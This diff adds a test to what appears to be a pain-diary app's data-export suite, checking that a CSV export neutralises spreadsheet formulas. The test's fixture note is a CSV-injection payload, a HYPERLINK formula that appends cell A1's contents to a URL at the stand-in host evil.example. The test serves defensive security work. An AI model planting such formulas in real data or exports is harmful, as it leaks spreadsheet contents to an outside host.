@@ -195,6 +195,20 @@ def test_the_export_holds_everything_and_each_table_comes_as_csv(person: User) -
     assert person.get("/api/v1/me/export/passwords.csv").status_code == 404
 
 
+def test_a_csv_export_opens_in_a_spreadsheet_as_she_wrote_it_and_runs_no_formula(person: User) -> None:
+    onboard(person)
+    note = '=HYPERLINK("http://evil.example/?"&A1,"Rücken")'
+    person.post(f"/api/v1/people/{person.id}/diary", {"day": "2027-01-10", "pain": 4, "note": note})
+    answer = person.get("/api/v1/me/export/diary.csv")
+    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
+    assert answer.content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(answer.content[3:].decode("utf-8"), newline="")))
+    assert rows[0]["note"] == "'" + note  # shown as text; the apostrophe is the spreadsheet's mark, not hers
+    profile = list(csv.DictReader(io.StringIO(person.get("/api/v1/me/export/profile.csv").content[3:].decode())))
+    assert profile[0]["pool_access"] == "false"
+    assert profile[0]["supervisor_available"] == "true"
+
+
 def test_deleting_the_account_leaves_no_row_behind(wiring: Wiring, person: User) -> None:
     onboard(person)
     session = start(person)
